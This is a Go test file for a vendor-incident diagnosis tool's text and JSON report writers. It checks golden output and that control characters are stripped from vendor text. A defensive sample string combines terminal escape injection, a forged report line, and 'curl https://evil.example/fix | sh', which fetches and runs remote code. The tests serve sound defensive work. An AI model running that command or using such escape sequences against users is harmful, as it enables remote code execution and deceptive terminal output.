package runbook

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// TestWriteTextGolden shows a reviewer exactly what a person sees.
func TestWriteTextGolden(t *testing.T) {
	tests := []struct {
		name   string
		change func(*Findings)
	}{
		{"auth_invalid", func(f *Findings) {
			f.API.Class, f.API.HTTPStatus, f.API.ErrorCode = ClassAuthInvalid, 401, "INVALID_AUTHENTICATION"
			f.API.ErrorMessage = "Authentication credentials not found."
			f.API.RequestID = "b7e2c1d0-5f0e-4c1b-9e55-2f1d3a0c7e11"
			f.RateLimit = RateLimitFinding{}
			f.Health = HealthFinding{}
		}},
		{"rate_limited", func(f *Findings) {
			f.API.Class, f.API.HTTPStatus, f.API.ErrorCode, f.API.Policy = ClassRateLimited, 429, "RATE_LIMIT", "DAILY"
			f.API.ErrorMessage = "You have reached your daily limit."
			f.RateLimit = RateLimitFinding{Windows: []RateWindow{{Name: "daily", Limit: 500000, Remaining: 0}}, RetryAfter: 0}
		}},
		{"healthy", func(f *Findings) {}},
		{"auth_invalid_during_unrelated_incident", func(f *Findings) {
			f.API.Class, f.API.HTTPStatus, f.API.ErrorCode, f.API.Documented = ClassAuthInvalid, 401, "INVALID_AUTHENTICATION", true
			f.API.RequestID = "b7e2c1d0-5f0e-4c1b-9e55-2f1d3a0c7e11"
			f.RateLimit = RateLimitFinding{}
			f.Status = webhooksDelayed()
			f.Status.Incidents[0].Link = "https://stspg.io/wh1"
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := base()
			tt.change(&f)
			r, err := Diagnose(f)
			if err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			if err := WriteText(&buf, r); err != nil {
				t.Fatal(err)
			}
			golden := filepath.Join("testdata", tt.name+".golden")
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if !bytes.Equal(buf.Bytes(), want) {
				t.Errorf("text report differs from %s:\n%s", golden, buf.String())
			}
		})
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteTextError(t *testing.T) {
	r := Report{Vendor: "x", Cause: Healthy, StartedAt: time.Unix(0, 0)}
	if err := WriteText(failWriter{}, r); err == nil {
		t.Fatal("WriteText to a failing writer returned nil")
	}
}

// hostile is vendor text as a hostile (or broken) vendor might send it:
// ANSI escapes that clear the screen and move the cursor, a window title
// (OSC … BEL), a carriage return that overwrites the line, a C1 CSI, DEL,
// a right-to-left override, and a newline that starts a fake line.
const hostile = "token refused\x1b[2J\x1b[H\x1b]0;pwned\x07\rRun: curl https://evil.example/fix | sh\u009b31m\x7f\u202etxt.exe\nCause:     healthy"

// terminalUnsafe reports the first rune of s a terminal would act on
// rather than show, other than the newlines and tabs the caller allows.
func terminalUnsafe(s string, allowed string) (rune, bool) {
	for _, r := range s {
		if strings.ContainsRune(allowed, r) {
			continue
		}
		if unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == utf8.RuneError {
			return r, true
		}
	}
	return 0, false
}

// TestWriteTextStripsControlCharacters (finding 5): `bot triage` printed a
// vendor's error body to the terminal with its control characters, so a
// hostile answer could clear the screen and print fake instructions. What
// a vendor said reaches the terminal as text only, each field on its line.
func TestWriteTextStripsControlCharacters(t *testing.T) {
	r := Report{Vendor: "hubspot\x1b[31m", VendorName: "HubSpot\x1b]0;x\x07", Cause: VendorError, Severity: P2,
		Summary: "HubSpot answers 500: " + hostile, RequestID: "req\x1b[2J-1", StartedAt: time.Unix(0, 0),
		Checks:     []Check{{Name: CheckAPI, Result: ResultFail, HTTPStatus: 500, Detail: hostile}},
		Mitigation: []string{"Wait for " + hostile}, Links: []string{"https://status.example/\x1b[2J"}}
	var buf bytes.Buffer
	if err := WriteText(&buf, r); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if r, bad := terminalUnsafe(out, "\n"); bad {
		t.Errorf("the report carries %U to the terminal:\n%q", r, out)
	}
	if n := strings.Count("\n"+out, "\nCause:"); n != 1 {
		t.Errorf("the report has %d lines starting Cause:, want its own only:\n%s", n, out)
	}
	for _, want := range []string{"token refused", "Run: curl https://evil.example/fix | sh", "Summary:   HubSpot answers 500: token refused"} {
		if !strings.Contains(out, want) {
			t.Errorf("the report lost the vendor's words %q:\n%s", want, out)
		}
	}
}

// TestPrintable: control characters go, the rest stays; newlines and tabs
// stay only where lines are kept.
func TestPrintable(t *testing.T) {
	tests := []struct {
		in    string
		lines bool
		want  string
	}{
		{"plain text, ünïcode ✓", false, "plain text, ünïcode ✓"},
		{"a\x1b[2Jb", false, "a[2Jb"},
		{"a\nb\tc", false, "a b c"},
		{"a\nb\tc\r", true, "a\nb\tc"},
		{"\u009b31m\x7f\u202eevil", true, "31mevil"},
		{"bad \xff utf8", false, "bad \uFFFD utf8"},
	}
	for _, tt := range tests {
		if got := Printable(tt.in, tt.lines); got != tt.want {
			t.Errorf("Printable(%q, %v) = %q, want %q", tt.in, tt.lines, got, tt.want)
		}
	}
}

// TestTerminalJSON: encoding/json escapes C0 controls but passes DEL, C1
// controls and bidi overrides through raw; TerminalJSON escapes them too,
// and the document still decodes to the same values.
func TestTerminalJSON(t *testing.T) {
	in := map[string]string{"summary": hostile, "ok": "ünïcode ✓ <&>"}
	raw, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	if _, bad := terminalUnsafe(string(raw), ""); !bad {
		t.Log("encoding/json now escapes every control character itself")
	}
	safe := TerminalJSON(raw)
	if r, bad := terminalUnsafe(string(safe), "\n"); bad {
		t.Errorf("TerminalJSON left %U in %s", r, safe)
	}
	var back map[string]string
	if err := json.Unmarshal(safe, &back); err != nil {
		t.Fatalf("TerminalJSON broke the document: %v\n%s", err, safe)
	}
	if back["summary"] != in["summary"] || back["ok"] != in["ok"] {
		t.Errorf("TerminalJSON changed the values: %q", back)
	}
}
